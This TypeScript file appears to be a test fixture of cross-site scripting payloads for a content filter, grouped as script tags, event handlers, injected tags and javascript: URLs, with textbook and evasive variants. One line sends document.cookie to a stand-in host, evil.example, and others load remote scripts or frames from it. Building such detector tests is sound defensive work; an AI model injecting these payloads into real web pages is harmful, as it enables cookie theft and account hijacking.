import type { NamedCases } from './content-cases.ts';

export const XSS_CASES: readonly NamedCases[] = [
  {
    subtype: 'script',
    textbook: [
      '<script>alert(1)</script>',
      '"><script>alert(document.cookie)</script>',
      '<script src=//evil.example/a.js></script>',
      '</textarea><script>fetch("//evil.example/"+document.cookie)</script>',
    ],
    others: [
      '<ScRiPt >prompt(1)</sCrIpT>',
      '<script\n>alert`1`</script\n>',
      '&lt;script&gt;alert(1)&lt;/script&gt;',
      '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
      '<<script>confirm(2)//<</script>',
      '<script/x>eval(name)</script>',
      "<script>top['al'+'ert'](1)</script>",
      '[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]()',
    ],
  },
  {
    subtype: 'event_handler',
    textbook: [
      '<img src=x onerror=alert(1)>',
      '<svg onload=alert(1)>',
      '<body onload="alert(1)">',
      '<input autofocus onfocus=alert(1)>',
    ],
    others: [
      '<svg/onload=alert`1`>',
      '<details open ontoggle=prompt(1)>',
      '<video><source onerror="confirm(1)"></video>',
      '" onmouseover="alert(1)',
      "' autofocus onfocus='alert(1)",
      '<img src=1 oNeRrOr=&#97;lert(1)>',
      '<a onpointerenter=alert(1)>x</a>',
      '<div style="animation-name:x" onanimationstart="alert(1)">',
    ],
  },
  {
    subtype: 'tag',
    textbook: ['"><iframe src=//evil.example></iframe>', "'><object data=//evil.example/x.swf></object>"],
    others: [
      '<base href="//evil.example/">',
      '<embed src=//evil.example/a>',
      '<meta http-equiv=refresh content="0;url=//evil.example">',
      '<link rel=stylesheet href=//evil.example/x.css>',
    ],
  },
  {
    subtype: 'javascript_url',
    textbook: ['javascript:alert(1)', '<a href="javascript:alert(document.domain)">go</a>'],
    others: [
      'JaVaScRiPt:prompt(1)',
      'java\tscript:alert(1)',
      '&#106;avascript:alert(1)',
      'javascript://shop.example/%0aalert(1)',
      'data:text/html,<b>x</b>',
      '[click](javascript:alert(1))',
      'vbscript:msgbox(1)',
    ],
  },
];
